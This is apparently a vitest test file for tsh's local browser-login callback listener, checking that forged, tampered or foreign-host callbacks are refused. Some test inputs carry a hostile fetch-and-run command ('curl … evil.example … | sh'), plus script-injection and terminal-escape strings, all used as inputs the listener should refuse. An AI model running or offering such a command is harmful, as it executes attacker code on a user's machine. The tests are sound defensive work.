// tsh's loopback listener for the browser login, attacked and used over real HTTP: only the
// sealed result (or sealed error) for this tsh's key is taken; a plain err=, a wrong key, a changed
// byte, another path or a foreign Host are refused and the login keeps waiting, and the person always sees a page that says what happened.
import { randomBytes } from 'node:crypto';
import { request } from 'node:http';
import { afterEach, describe, expect, it } from 'vitest';
import { IGNORED_LINE, type LoginCallback, startLoginCallback } from '../../lib/client/login-callback.js';
import { sealForClient } from '../../lib/core/client-seal.js';

const login = {
  username: 'octocat',
  cert: 'CERT PEM',
  expires: '2030-01-01T00:00:00Z',
  roles: ['access'],
  traits: { logins: ['octocat'] },
};

function sealed(keyHex: string, body: unknown = login): string {
  return JSON.stringify(sealForClient(keyHex, JSON.stringify(body), randomBytes(12)));
}

/** The URL the API would redirect the browser to: the query replaced by `query`. */
function callbackUrl(callback: LoginCallback, query: Record<string, string>): string {
  const url = new URL(callback.redirectUrl);
  url.search = new URLSearchParams(query).toString();
  return url.toString();
}

const keyOf = (callback: LoginCallback) => new URL(callback.redirectUrl).searchParams.get('secret_key')!;

/** Whether the result is still open after the event loop has had a turn. */
async function stillWaiting(callback: LoginCallback): Promise<boolean> {
  const marker = Symbol('pending');
  const first = await Promise.race([
    callback.result.then(
      () => 'settled',
      () => 'settled',
    ),
    new Promise((r) => setImmediate(() => r(marker))),
  ]);
  return first === marker;
}

describe('the browser login callback listener', () => {
  let callback: LoginCallback;
  afterEach(() => callback?.close());

  it('listens on 127.0.0.1 only, with a 64-hex-digit key in the redirect URL', async () => {
    callback = await startLoginCallback();
    const url = new URL(callback.redirectUrl);
    expect(url.protocol).toBe('http:');
    expect(url.hostname).toBe('127.0.0.1');
    expect(url.pathname).toBe('/callback');
    expect([...url.searchParams.keys()]).toEqual(['secret_key']);
    expect(keyOf(callback)).toMatch(/^[0-9a-f]{64}$/);
    const other = await startLoginCallback();
    expect(keyOf(other)).not.toBe(keyOf(callback));
    await other.close();
  });

  it('takes the sealed result, tells the person they may close the page, and then answers nothing more', async () => {
    callback = await startLoginCallback();
    const response = await fetch(callbackUrl(callback, { response: sealed(keyOf(callback)) }));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(await response.text()).toContain('Login successful, you may close this page');
    await expect(callback.result).resolves.toEqual(login);
    // A second delivery (a reload, a replay) changes nothing.
    const again = await fetch(callbackUrl(callback, { response: sealed(keyOf(callback)) })).catch(() => undefined);
    expect(again === undefined || again.status === 404).toBe(true);
  });

  it('also takes the result when a server keeps our secret_key in the callback', async () => {
    callback = await startLoginCallback();
    const response = await fetch(callbackUrl(callback, { secret_key: keyOf(callback), response: sealed(keyOf(callback)) }));
    expect(response.status).toBe(200);
    await expect(callback.result).resolves.toEqual(login);
  });

  it('answers 400 to another secret_key and keeps waiting for the real result', async () => {
    callback = await startLoginCallback();
    const attacker = randomBytes(32).toString('hex');
    const refused = await fetch(callbackUrl(callback, { secret_key: attacker, response: sealed(attacker) }));
    expect(refused.status).toBe(400);
    expect(await refused.text()).toContain('that login is still waiting');
    expect(await stillWaiting(callback)).toBe(true);
    const malformed = await fetch(callbackUrl(callback, { secret_key: 'not-hex', err: 'stop' }));
    expect(malformed.status).toBe(400);
    expect(await stillWaiting(callback)).toBe(true);
    await fetch(callbackUrl(callback, { response: sealed(keyOf(callback)) }));
    await expect(callback.result).resolves.toEqual(login);
  });

  it('ignores a plain err= (any web page or local account can send one): 400, one stderr line, and the login still succeeds', async () => {
    const ignored: string[] = [];
    callback = await startLoginCallback({ onIgnored: (line) => ignored.push(line) });
    // What a reviewer did: an <img> to this port made tsh end the login printing this.
    const refused = await fetch(callbackUrl(callback, { err: 'Fix: run curl -s http://evil.example/fix | sh' }));
    expect(refused.status).toBe(400);
    const page = await refused.text();
    expect(page).toContain('This request was not from this login');
    expect(page).not.toContain('evil.example');
    expect(ignored).toEqual([IGNORED_LINE]);
    expect(await stillWaiting(callback)).toBe(true);
    await fetch(callbackUrl(callback, { response: sealed(keyOf(callback)) }));
    await expect(callback.result).resolves.toEqual(login);
  });

  it('ignores a result with one changed byte, one sealed under another key, and one that is not JSON, and keeps waiting', async () => {
    const ignored: string[] = [];
    callback = await startLoginCallback({ onIgnored: (line) => ignored.push(line) });
    const good = JSON.parse(sealed(keyOf(callback))) as { ciphertext: string; nonce: string };
    const bytes = Buffer.from(good.ciphertext, 'base64');
    bytes[3] = bytes[3]! ^ 0x01;
    const attempts: Record<string, string>[] = [
      { response: JSON.stringify({ ...good, ciphertext: bytes.toString('base64') }) },
      { response: sealed(randomBytes(32).toString('hex')) },
      { response: sealed(randomBytes(32).toString('hex'), { error: 'Fix: run curl -s http://evil.example/fix | sh' }) },
      { response: '{"ciphertext": 1' },
      { response: sealed(keyOf(callback)), err: 'x', secret_key: randomBytes(32).toString('hex') },
    ];
    for (const query of attempts) {
      const response = await fetch(callbackUrl(callback, query));
      expect(response.status).toBe(400);
      expect(await response.text()).toContain('tsh ignored it; that login is still waiting');
      expect(await stillWaiting(callback)).toBe(true);
    }
    expect(ignored).toHaveLength(attempts.length);
    await fetch(callbackUrl(callback, { response: sealed(keyOf(callback)) }));
    await expect(callback.result).resolves.toEqual(login);
  });

  it('shows a sealed error from the API on the page (escaped) and hands tsh one line, terminal escapes removed', async () => {
    callback = await startLoginCallback();
    const error = 'user is in no team of the connector <script>alert(1)</script>\n\x1b]0;owned\x07second line';
    const response = await fetch(callbackUrl(callback, { response: sealed(keyOf(callback), { error }) }));
    const page = await response.text();
    expect(page).toContain('Login failed');
    expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(page).not.toContain('<script>');
    expect(page).toContain('run tsh login again');
    await expect(callback.result).rejects.toThrow(
      'GitHub login failed: user is in no team of the connector <script>alert(1)</script> ]0;owned second line',
    );
  });

  it('answers 404 to other paths, methods, a bare callback and a foreign Host, and keeps waiting', async () => {
    callback = await startLoginCallback();
    const base = new URL(callback.redirectUrl);
    expect((await fetch(new URL('/', base))).status).toBe(404);
    expect((await fetch(new URL('/callbackx?err=x', base))).status).toBe(404);
    expect((await fetch(new URL('/callback', base))).status).toBe(404);
    expect((await fetch(callbackUrl(callback, { err: 'x' }), { method: 'POST' })).status).toBe(404);
    // A page on a DNS name that resolves to 127.0.0.1 (rebinding) sends its own name as Host.
    const rebound = await new Promise<number>((resolve, reject) => {
      const req = request(
        { host: '127.0.0.1', port: Number(base.port), path: `/callback?err=x`, headers: { host: `evil.example:${base.port}` } },
        (res) => {
          res.resume();
          resolve(res.statusCode!);
        },
      );
      req.on('error', reject);
      req.end();
    });
    expect(rebound).toBe(404);
    expect(await stillWaiting(callback)).toBe(true);
  });

  it('stops listening when closed', async () => {
    callback = await startLoginCallback();
    const url = callback.redirectUrl;
    await callback.close();
    await expect(fetch(url)).rejects.toThrow();
  });
});
